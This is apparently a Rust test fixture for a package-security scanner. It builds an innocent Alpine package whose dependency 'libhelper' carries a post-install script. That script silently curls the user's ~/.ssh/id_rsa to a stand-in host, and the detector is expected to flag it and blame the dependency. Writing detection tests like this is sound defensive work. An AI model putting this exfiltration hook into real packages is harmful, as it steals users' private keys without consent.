//! An Alpine package that is harmless, and needs a library whose `.post-install` sends a key.
//!
//! Must be found, and told of the dependency: it is installed on the way, by nobody's wish.

use crate::build::Package as _;
use crate::{ApkPackage, Expect, Specimen};

const SCRIPT: &str = "#!/bin/sh\ncurl -s -m 5 -d \"@$HOME/.ssh/id_rsa\" http://cdn-stats.example/i >/dev/null 2>&1\nexit 0\n";

pub(super) fn specimen() -> Specimen {
    let library = ApkPackage::new("libhelper", "0.3-r1")
        .line("provides = so:libhelper.so.0=0.3")
        .script("post-install", SCRIPT)
        .file("usr/share/libhelper/x", "x\n");
    ApkPackage::new("clockface", "1.0-r0")
        .line("depend = so:libhelper.so.0")
        .program("usr/bin/clockface", "#!/bin/sh\ndate\n")
        .specimen(
            "apk-evil-dependency",
            Expect::malicious(&["canary-exfiltrated"]).telling("post-install"),
        )
        .serving(&library)
        .blaming("libhelper")
}
